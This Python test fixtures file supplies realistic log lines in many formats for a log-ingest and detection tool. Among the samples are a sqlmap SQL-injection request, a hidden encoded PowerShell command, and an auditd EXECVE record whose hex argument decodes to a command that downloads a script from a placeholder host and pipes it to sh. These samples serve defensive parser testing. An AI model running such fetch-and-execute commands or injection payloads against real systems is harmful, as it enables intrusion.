"""Shared fixtures for the ingest/parse tests: real-shaped lines of every supported format.

The lines follow public datasets and vendor docs: LogHub OpenSSH_2k / Linux_2k / Apache_2k,
the Apache and Nginx docs' examples, RFC 5424's own examples, Winlogbeat and evtx_dump output,
OTRF Security-Datasets (flat Windows JSON), AWS CloudTrail docs, auditd from RHEL docs.
"""

from __future__ import annotations

import json
from pathlib import Path

from logwarden.app.events import LogLine

SSHD = [
    "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
    "ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
    "Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from "
    "173.234.31.186 port 38926 ssh2",
    "Dec 10 07:07:38 LabSZ sshd[24206]: pam_unix(sshd:auth): authentication failure; logname= "
    "uid=0 euid=0 tty=ssh ruser= rhost=52.80.34.196  user=root",
    "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 "
    "tty=NODEVssh ruser= rhost=218.188.2.4",
    "Jun 15 04:06:18 combo kernel: Linux version 2.6.5-1.358 (bhcompile@bugs.build.redhat.com)",
    "Mar  3 10:15:01 web1 CRON[2211]: (root) CMD (command -v debian-sa1 > /dev/null && "
    "debian-sa1 1 1)",
    "Mar  3 10:17:44 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
    "COMMAND=/usr/bin/id",
]
RSYSLOG_ISO = ("2024-03-03T10:15:01.123456+01:00 web1 sshd[812]: Accepted publickey for deploy "
               "from 10.1.2.3 port 50022 ssh2: ED25519 SHA256:abc")
RFC5424 = [
    "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - "
    "\ufeff'su root' failed for lonvick on /dev/pts/8",
    '<165>1 2003-10-11T22:14:15.003000-07:00 mymachine.example.com evntslog 1234 ID47 '
    '[exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] '
    "\ufeffAn application event log entry...",
]
ACCESS = [
    '64.242.88.10 - - [07/Mar/2004:16:05:49 -0800] "GET /twiki/bin/edit/Main/Double_bounce_sender'
    '?topicparent=Main.ConfigurationVariables HTTP/1.1" 401 12846',
    '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326 '
    '"http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"',
    '45.155.205.233 - - [12/Jan/2024:03:12:09 +0000] "GET /index.php?id=1%27%20UNION%20SELECT'
    '%201,2,3-- HTTP/1.1" 200 512 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
    'shop.example.com:443 203.0.113.9 - - [12/Jan/2024:03:12:10 +0000] "\\x16\\x03\\x01" 400 226 '
    '"-" "-"',
    '198.51.100.7 - - [12/Jan/2024:03:12:11 +0000] "-" 408 0 "-" "-"',
]
APACHE_ERROR = [
    "[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties",
    "[Sun Dec 04 04:51:18 2005] [error] [client 81.199.21.119] File does not exist: "
    "/var/www/html/awstats.pl",
    "[Fri Sep 09 10:42:29.902022 2011] [core:error] [pid 35708:tid 4328636416] "
    "[client 72.15.99.187:49710] AH00128: File does not exist: /usr/local/apache2/htdocs/favicon.ico",
    "[Wed Oct 11 14:32:52.123456 2023] [authz_core:error] [pid 1234:tid 140000] "
    "[client [2001:db8::7]:51234] AH01630: client denied by server configuration: /srv/private",
]
NGINX_ERROR = ('2024/01/12 03:12:09 [error] 1234#0: *17 open() "/usr/share/nginx/html/.env" '
               'failed (2: No such file or directory), client: 45.155.205.233, server: _, '
               'request: "GET /.env HTTP/1.1", host: "203.0.113.5"')
WIN_4625_WINLOGBEAT = {
    "@timestamp": "2023-05-02T10:15:23.456Z",
    "event": {"code": "4625", "provider": "Microsoft-Windows-Security-Auditing",
              "outcome": "failure"},
    "host": {"name": "DC01.corp.local"},
    "winlog": {
        "channel": "Security", "computer_name": "DC01.corp.local", "event_id": "4625",
        "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": "123456",
        "event_data": {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "TargetUserName": "administrator",
            "TargetDomainName": "CORP", "Status": "0xc000006d", "SubStatus": "0xc000006a",
            "LogonType": "3", "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI",
            "IpAddress": "185.220.101.4", "IpPort": "0"}},
}
SYSMON_1_EVTX = {"Event": {
    "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
    "System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                     "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
        "EventID": 1, "Version": 5, "Level": 4,
        "TimeCreated": {"#attributes": {"SystemTime": "2019-03-19T23:34:25.723936Z"}},
        "EventRecordID": 36, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "WIN-HOST01", "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
    "EventData": {
        "RuleName": "", "UtcTime": "2019-03-19 23:34:25.715", "ProcessId": 3932,
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA", "User": "CORP\\bob",
        "IntegrityLevel": "High", "Hashes": "SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd.exe /c run.bat"}}}
WIN_4624_XMLTODICT = {"Event": {
    "System": {"Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
               "EventID": {"@Qualifiers": "", "#text": "4624"},
               "TimeCreated": {"@SystemTime": "2022-01-05T08:00:01.1234567Z"},
               "Channel": "Security", "Computer": "FS01"},
    "EventData": {"Data": [{"@Name": "TargetUserName", "#text": "svc_backup"},
                           {"@Name": "LogonType", "#text": "10"},
                           {"@Name": "IpAddress", "#text": "::ffff:10.0.0.44"}]}}}
WIN_4688_FLAT = {
    "EventID": 4688, "Channel": "Security", "Hostname": "WKS7.corp.local",
    "SourceName": "Microsoft-Windows-Security-Auditing", "@timestamp": "2020-09-21T18:20:44.123Z",
    "SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
    "CommandLine": "whoami /all", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}
WIN_7045_WINLOGBEAT6 = {
    "@timestamp": "2018-11-02T07:30:00.000Z", "event_id": 7045, "log_name": "System",
    "source_name": "Service Control Manager", "computer_name": "SRV2",
    "event_data": {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                   "ServiceType": "user mode service", "StartType": "demand start",
                   "AccountName": "LocalSystem"}}
CLOUDTRAIL_CONSOLE_LOGIN = {
    "eventVersion": "1.08",
    "userIdentity": {"type": "IAMUser", "principalId": "AIDACKCEVSQ6C2EXAMPLE",
                     "arn": "arn:aws:iam::123456789012:user/alice", "accountId": "123456789012",
                     "userName": "alice"},
    "eventTime": "2023-07-19T21:11:22Z", "eventSource": "signin.amazonaws.com",
    "eventName": "ConsoleLogin", "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23",
    "userAgent": "Mozilla/5.0 (X11; Linux x86_64)", "errorMessage": "Failed authentication",
    "requestParameters": None, "responseElements": {"ConsoleLogin": "Failure"},
    "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/", "MFAUsed": "No"},
    "eventID": "3fcfb182-98f8-4744-bd45-10a395ab61cb", "readOnly": False,
    "eventType": "AwsConsoleSignIn", "recipientAccountId": "123456789012"}
CLOUDTRAIL_ROOT_STOPLOGGING = {
    "eventVersion": "1.08",
    "userIdentity": {"type": "Root", "principalId": "123456789012",
                     "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"},
    "eventTime": "2023-07-19T21:15:02Z", "eventSource": "cloudtrail.amazonaws.com",
    "eventName": "StopLogging", "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23",
    "userAgent": "aws-cli/2.13.0", "requestParameters": {"name": "management-trail"},
    "responseElements": None, "eventType": "AwsApiCall"}
AUDITD = [
    "type=USER_AUTH msg=audit(1700000000.123:456): pid=1234 uid=0 auid=4294967295 "
    "ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication "
    "grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.50 addr=203.0.113.50 "
    "terminal=ssh res=failed'",
    "type=SYSCALL msg=audit(1700000001.200:457): arch=c000003e syscall=59 success=yes exit=0 "
    "a0=55d3c2a1b2c0 a1=55d3c2a1b300 a2=55d3c2a1b320 a3=8 items=2 ppid=1300 pid=1301 "
    "auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" "
    "key=\"rootcmd\"",
    "type=EXECVE msg=audit(1700000001.200:457): argc=3 a0=\"bash\" a1=\"-c\" "
    "a2=6375726C20687474703A2F2F782E7A2F73207C207368",
    "node=web1 type=USER_LOGIN msg=audit(1700000005.000:460): pid=1400 uid=0 auid=1000 ses=4 "
    "msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.9 terminal=/dev/pts/1 "
    "res=success'\x1dUID=\"root\" AUID=\"alice\"",
]


def jline(obj: dict) -> str:
    return json.dumps(obj, separators=(",", ":"))


def log_lines(texts: list[str], source: str = "test.log") -> list[LogLine]:
    """LogLines as ingest would make them from `texts` joined by newlines."""
    lines, offset = [], 0
    for number, text in enumerate(texts, 1):
        lines.append(LogLine(source=source, inode=0, offset=offset, line_no=number, text=text))
        offset += len(text.encode()) + 1
    return lines


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


# A real Windows EVTX file: the test log of dissect.eventlog (Fox-IT, AGPL-3.0), fetched from PyPI
# when a test needs it and cached; not redistributed in this repository.
EVTX_SAMPLE = ("dissect.eventlog==3.11", "dissect_eventlog-3.11/tests/_data/TestLogX.evtx",
               "7bba434a7a3667433d5741e3fe323ac251c4cbde42d66ec548ef9fbf7a8c5735")


def evtx_sample() -> Path:
    """The cached sample (downloaded once with pip, sha256-checked), under ~/.cache/logwarden-tests."""
    import hashlib
    import os
    import subprocess
    import sys
    import tarfile
    import tempfile

    requirement, member, sha256 = EVTX_SAMPLE
    target = Path(os.environ.get("LOGWARDEN_TEST_CACHE", Path.home() / ".cache" / "logwarden-tests")) / Path(member).name
    if not target.is_file():
        target.parent.mkdir(parents=True, exist_ok=True)
        with tempfile.TemporaryDirectory() as tmp:
            subprocess.run([sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--no-binary", ":all:",
                            requirement, "-d", tmp], check=True, capture_output=True)
            (sdist,) = Path(tmp).glob("*.tar.gz")
            with tarfile.open(sdist) as tar:
                target.write_bytes(tar.extractfile(member).read())
    assert hashlib.sha256(target.read_bytes()).hexdigest() == sha256, f"{target} is not the expected sample"
    return target
